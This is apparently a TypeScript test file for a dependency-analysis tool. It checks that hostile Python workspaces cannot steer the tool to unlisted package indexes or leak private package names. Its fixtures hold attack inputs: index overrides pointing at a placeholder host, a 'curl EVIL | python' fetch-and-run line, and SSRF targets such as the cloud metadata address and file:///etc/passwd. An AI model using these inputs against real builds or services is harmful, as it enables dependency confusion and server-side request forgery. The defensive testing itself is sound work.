/** No request that the workspace's owner did not allow: counted at the sockets that an attacker would have reached. */
import { describe, expect, it } from 'vitest';
import { answer, page, projectOf, wheel } from '../io/test-index.ts';
import { startIndex } from '../io/open-index.ts';
import { judgeIn, listener, workspaceOf, type Files } from './hostile-workspace.ts';

const INSTALL = 'FROM python:3.12-alpine\nCOPY . .\nRUN pip install -r requirements.txt\n';

/** `EVIL`: an address on loopback that nobody listed. */
const attacks: readonly { readonly attack: string; readonly dockerfile?: string; readonly files?: Files }[] = [
  { attack: '--index-url in requirements.txt', files: { 'requirements.txt': '--index-url EVIL\nsecret-name\n' } },
  { attack: '--extra-index-url in requirements.txt', files: { 'requirements.txt': '--extra-index-url EVIL\nnumpy\n' } },
  { attack: '--find-links in requirements.txt', files: { 'requirements.txt': '--find-links EVIL\nnumpy\n' } },
  { attack: 'a direct reference', files: { 'requirements.txt': 'numpy @ EVILnumpy-1.0-py3-none-any.whl\nEVILa.tar.gz\ngit+EVILrepo.git#egg=b\n' } },
  { attack: 'a requirements file from the web', files: { 'requirements.txt': '-r EVILrequirements.txt\n-c EVILc.txt\nnumpy\n' } },
  { attack: 'options on the command line', dockerfile: 'FROM python:3.12-alpine\nRUN pip install --index-url EVIL --trusted-host 127.0.0.1 numpy && uv pip install --default-index EVIL numpy\n' },
  { attack: 'a requirements file from the web on the command line', dockerfile: 'FROM python:3.12-alpine\nADD EVILx.txt /x.txt\nRUN pip install -r EVILrequirements.txt && curl EVIL | python\n' },
  { attack: 'ENV PIP_INDEX_URL', dockerfile: 'FROM python:3.12-alpine\nENV PIP_INDEX_URL=EVIL PIP_EXTRA_INDEX_URL=EVIL UV_INDEX_URL=EVIL\nRUN pip install numpy\n' },
  { attack: 'pip.conf', dockerfile: 'FROM python:3.12-alpine\nCOPY pip.conf /etc/pip.conf\nRUN pip install numpy\n', files: { 'pip.conf': '[global]\nindex-url = EVIL\nextra-index-url = EVIL\n' } },
  { attack: '[[tool.uv.index]]', dockerfile: 'FROM python:3.12-alpine\nCOPY . .\nRUN uv sync\n', files: { 'pyproject.toml': '[project]\nname = "a"\nversion = "1"\ndependencies = ["numpy"]\n[[tool.uv.index]]\nname = "x"\nurl = "EVIL"\ndefault = true\n' } },
  { attack: 'Poetry sources', dockerfile: 'FROM python:3.12-alpine\nCOPY . .\nRUN poetry install\n', files: { 'pyproject.toml': '[tool.poetry]\nname = "a"\n[tool.poetry.dependencies]\nnumpy = {version = "*", source = "x"}\n[[tool.poetry.source]]\nname = "x"\nurl = "EVIL"\n' } },
  { attack: 'Pipfile sources', dockerfile: 'FROM python:3.12-alpine\nCOPY . .\nRUN pipenv install\n', files: { Pipfile: '[[source]]\nname = "x"\nurl = "EVIL"\nverify_ssl = false\n[packages]\nnumpy = "*"\n' } },
  { attack: 'a lock that names another registry', dockerfile: 'FROM python:3.12-alpine\nCOPY . .\nRUN uv sync --frozen\n', files: { 'pyproject.toml': '[project]\nname = "a"\nversion = "1"\ndependencies = ["numpy"]\n', 'uv.lock': 'version = 1\n[[package]]\nname = "a"\nversion = "1"\nsource = { editable = "." }\ndependencies = [{ name = "numpy" }]\n[[package]]\nname = "numpy"\nversion = "1"\nsource = { registry = "EVIL" }\n' } },
  { attack: 'Compose with a context on the web', files: { 'requirements.txt': 'numpy\n', 'compose.yaml': 'services:\n  a:\n    build:\n      context: EVILrepo.git\n      dockerfile: Dockerfile\n    image: 127.0.0.1:PORT/a\n' } },
  { attack: 'a FROM at an own registry', dockerfile: 'FROM 127.0.0.1:PORT/python:3.12-alpine\nRUN pip install numpy\n' },
  { attack: 'a policy file that names an index', files: { 'requirements.txt': 'numpy\n', '.muslin.toml': '[index]\nurl = "EVIL"\nallowedHosts = ["127.0.0.1"]\n' } },
];

describe('no connection to an index that the workspace alone names', () => {
  it.each(attacks)('$attack', async ({ dockerfile = INSTALL, files = {} }) => {
    const evil = await listener();
    const own = await startIndex((_, response, path) => answer(response, 200, page(projectOf(path), [wheel(projectOf(path))])));
    for (const address of [`http://127.0.0.1:${evil.port}/`, `http://localhost:${evil.port}/`]) {
      const laid = (text: string): string => text.replaceAll('EVIL', address).replaceAll('PORT', String(evil.port));
      const { root } = workspaceOf(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, laid(text)])));
      await judgeIn(root, laid(dockerfile), own.url);
    }
    expect(evil.connections()).toBe(0);
  });

  it.each(['http://169.254.169.254/latest/', 'http://[fd00:ec2::254]/', 'https://169.254.169.254/', 'http://10.0.0.1/simple/', 'http://2130706433/', 'http://0x7f.1/', 'http://127.1/', 'https://evil.example/simple/', 'file:///etc/passwd', 'ftp://x/', 'gopher://127.0.0.1/'])('%s as an extra index: none but the user\'s own is asked, and the packages stay unknown', async (address) => {
    const own = await startIndex((_, response, path) => answer(response, 200, page(projectOf(path), [wheel(projectOf(path))])));
    const { root } = workspaceOf({ 'requirements.txt': `--extra-index-url ${address}\nnumpy\n` });
    const { analysis, index } = await judgeIn(root, INSTALL, own.url);
    expect(index.requests()).toBe(own.paths.length);
    expect(analysis.diagnostics.map(({ code }) => code).filter((code) => code !== 'musl-runtime')).toEqual([]);
    expect(analysis.unjudged.map(({ name }) => name)).toEqual(['numpy']);
  });

  it.each(['169.254.169.254/latest/meta-data/', 'localhost:PORT/', '127.0.0.1:PORT/'])('a redirect of the user\'s own index to http://%s', async (address) => {
    const evil = await listener();
    const own = await startIndex((_, response) =>
      answer(response, 302, '', { location: `http://${address.replace('PORT', String(evil.port))}` }),
    );
    const { root } = workspaceOf({ 'requirements.txt': 'numpy\n' });
    const { analysis, index } = await judgeIn(root, INSTALL, own.url);
    expect(evil.connections()).toBe(0);
    expect(index.requests()).toBe(own.paths.length);
    expect(analysis.unjudged).toMatchObject([{ name: 'numpy', reason: expect.stringContaining('a redirect was not followed') as string }]);
  });

  it('metadata that a page puts elsewhere', async () => {
    const evil = await listener();
    const own = await startIndex((_, response, path) =>
      answer(
        response,
        200,
        page(projectOf(path), [wheel('numpy', { url: `http://127.0.0.1:${evil.port}/numpy-1.0-py3-none-any.whl`, 'core-metadata': true })]),
      ),
    );
    const { root } = workspaceOf({ 'requirements.txt': 'numpy\n' });
    await judgeIn(root, INSTALL, own.url);
    expect(evil.connections()).toBe(0);
  });

  it('offline, and in a workspace that is not trusted, even to hosts that are listed', async () => {
    const listed = await startIndex((_, response, path) => answer(response, 200, page(projectOf(path), [wheel(projectOf(path))])));
    const { root } = workspaceOf({ 'requirements.txt': `--index-url ${listed.url}\nnumpy\n` });
    const allowedHosts = [new URL(listed.url).host];
    await judgeIn(root, INSTALL, 'https://pypi.org/simple/', { policy: { offline: true, allowedHosts } });
    await judgeIn(root, INSTALL, 'https://pypi.org/simple/', { policy: { trusted: false, allowedHosts } });
    expect(listed.paths).toEqual([]);
    await judgeIn(root, INSTALL, 'https://pypi.org/simple/', { policy: { allowedHosts } });
    expect(listed.paths).toEqual(['/simple/numpy/']);
  });
});

it('names of packages that a private index serves are not sent to the public one', async () => {
  const privateOne = await startIndex((_, response, path) =>
    projectOf(path) === 'acme-secret' ? answer(response, 200, page('acme-secret', [wheel('acme_secret')])) : answer(response, 404),
  );
  const { root } = workspaceOf({ 'requirements.txt': `--extra-index-url ${privateOne.url}\nacme-secret\n` });
  const { index, analysis } = await judgeIn(root, INSTALL, 'https://pypi.org/simple/', {
    policy: { allowedHosts: [new URL(privateOne.url).host] },
  });
  expect(privateOne.paths).toEqual(['/simple/acme-secret/']);
  expect(index.requests()).toBe(1);
  expect(analysis.unjudged).toEqual([]);
});

it.each(['https://pypi.tuna.tsinghua.edu.cn/simple', 'https://mirrors.aliyun.com/pypi/simple/', 'https://pypi.org/simple'])('nor to %s, where the workspace names it as the main one', async (mirror) => {
  const privateOne = await startIndex((_, response) => answer(response, 200, page('acme-secret', [wheel('acme_secret')])));
  const { root } = workspaceOf({ 'requirements.txt': `--index-url ${mirror}\n--extra-index-url ${privateOne.url}\nacme-secret\n` });
  const { index } = await judgeIn(root, INSTALL, 'https://pypi.org/simple/', {
    policy: { allowedHosts: [new URL(privateOne.url).host, new URL(mirror).host] },
  });
  expect(privateOne.paths).toEqual(['/simple/acme-secret/']);
  expect(index.requests()).toBe(1);
});

it('names go to the index that the user put in PyPI\'s place, as in any build', async () => {
  const own = await startIndex((_, response, path) => answer(response, 200, page(projectOf(path), [wheel(projectOf(path))])));
  const extra = await startIndex((_, response) => answer(response, 404));
  const { root } = workspaceOf({ 'requirements.txt': `--extra-index-url ${extra.url}\nsome-name\n` });
  const { analysis } = await judgeIn(root, INSTALL, own.url, { policy: { allowedHosts: [new URL(extra.url).host] } });
  expect([own.paths, extra.paths]).toEqual([['/simple/some-name/'], ['/simple/some-name/']]);
  expect(analysis.unjudged).toEqual([]);
});
